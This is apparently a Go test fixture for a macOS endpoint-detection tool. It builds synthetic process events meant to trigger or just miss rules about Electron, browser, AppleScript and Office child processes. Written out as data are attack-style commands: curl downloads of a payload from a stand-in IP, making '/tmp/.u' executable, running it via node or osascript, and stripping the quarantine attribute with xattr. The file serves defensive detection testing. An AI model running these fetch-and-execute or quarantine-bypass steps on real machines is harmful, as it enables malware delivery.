package agent

import (
	"slices"
	"time"

	"hooksnare/collector/eslogger/synthetic"
)

func executionStories() []story {
	child := "const { spawn } = require('child_process'); spawn('/tmp/.u')"
	chromeApp := func(d *desk) *synthetic.Proc { return d.app(chrome) }
	return slices.Concat(
		about("execution_defense_evasion_electron_app_childproc_node_js",
			fires("an app as interpreter", func(d *desk) { d.types(slack, "-e", child) }, slack+" < zsh"),
			fires("and what it starts, whose fork is a repeat", func(d *desk) {
				d.run(d.start(d.shell(), slack, "-e", child), "/private/tmp/.u")
			}, slack+" < zsh"),
			near("another module", func(d *desk) { d.types(homebrewNode, "-e", "const fs = require('fs'); fs.readdirSync('/')") }),
			near("evaluated and printed", func(d *desk) { d.types(homebrewNode, "-p", child) }),
		),
		about("execution_initial_access_suspicious_browser_childproc",
			fires("a download, by a shell that becomes it", func(d *desk) {
				d.sole(d.start(d.app(chrome), renderer, "--type=renderer"), "curl -s http://203.0.113.9/u", "curl", "-s", "http://203.0.113.9/u")
			}, "/bin/sh < Google Chrome Helper (Renderer)", "/bin/bash < Google Chrome Helper (Renderer)", "/usr/bin/curl < Google Chrome Helper (Renderer)"),
			fires("a look around", func(d *desk) { d.sole(d.app(chrome), "whoami", "whoami") }, "/bin/sh < Google Chrome", "/bin/bash < Google Chrome"),
			fires("an interpreter", func(d *desk) {
				d.run(d.agent("com.apple.WebKit.WebContent", "/System/Volumes/Preboot/Cryptexes/OS/System/Library/Frameworks/WebKit.framework/Versions/A/XPCServices/com.apple.WebKit.WebContent.xpc/Contents/MacOS/com.apple.WebKit.WebContent"),
					"osascript", "-l", "JavaScript", "/tmp/.u")
			}, "/usr/bin/osascript < com.apple.WebKit.WebContent"),
			near("a helper of its own", func(d *desk) { d.run(d.app(chrome), renderer, "--type=renderer") }),
			near("a shell that does nothing of the kind", func(d *desk) { d.sole(chromeApp(d), "open -R /tmp", "open", "-R", "/tmp") }),
			near("another app", func(d *desk) { d.sole(d.app(slack), "whoami", "whoami") }),
		),
	)
}

func scriptStories() []story {
	return slices.Concat(
		about("execution_shell_execution_via_apple_scripting",
			fires("a download", func(d *desk) {
				d.sole(d.osascript(d.shell(), `do shell script "curl -s 203.0.113.9/u"`), "curl -s 203.0.113.9/u", "curl", "-s", "203.0.113.9/u")
			}, "/bin/sh < osascript"),
			fires("made executable", func(d *desk) {
				d.sole(d.osascript(d.implant(), `do shell script "chmod +x /tmp/.u"`), "chmod +x /tmp/.u", "chmod", "+x", "/tmp/.u")
			}, "/bin/sh < osascript"),
			near("another command", func(d *desk) { d.sole(d.osascript(d.shell(), `do shell script "ls"`), "ls", "ls") }),
			near("too late", func(d *desk) {
				script := d.osascript(d.shell(), `delay 15`)
				d.Advance(15 * time.Second)
				d.sole(script, "curl -s 203.0.113.9/u", "curl", "-s", "203.0.113.9/u")
			}),
			near("a shell beside it", func(d *desk) {
				d.osascript(d.shell(), `delay 1`)
				d.sole(d.Shell(), "curl -s 203.0.113.9/u", "curl", "-s", "203.0.113.9/u")
			}),
			near("a script from a file", func(d *desk) {
				d.sole(d.start(d.shell(), "osascript", "/tmp/u.scpt"), "curl -s 203.0.113.9/u", "curl", "-s", "203.0.113.9/u")
			}),
		),
	)
}

func officeStories() []story {
	return about("initial_access_suspicious_mac_ms_office_child_process",
		fires("a document's macro fetches", func(d *desk) {
			d.sole(d.app(word), "curl -s http://203.0.113.9/u", "curl", "-s", "http://203.0.113.9/u")
		}, "/bin/sh < Microsoft Word", "/bin/bash < Microsoft Word", "/usr/bin/curl < Microsoft Word"),
		fires("a document's macro unlocks a file", func(d *desk) { d.run(d.app(word), "xattr", "-d", "com.apple.quarantine", "/tmp/u.app") },
			"/usr/bin/xattr < Microsoft Word"),
		near("looks for its own version", func(d *desk) {
			d.sole(d.app(word), "defaults read com.microsoft.office", "defaults", "read", "com.microsoft.office")
		}),
		near("opens a page", func(d *desk) { d.run(d.app(word), "open", "https://www.example.com") }),
		near("the mail program's own temporary file", func(d *desk) {
			d.sh(d.app(outlook), "rm "+synthetic.Home+"/Library/Containers/com.microsoft.Outlook/Data/tmp/Outlook Temp/a; true")
		}),
		near("another app", func(d *desk) { d.run(d.app(slack), "xattr", "-d", "com.apple.quarantine", "/tmp/u.app") }),
	)
}
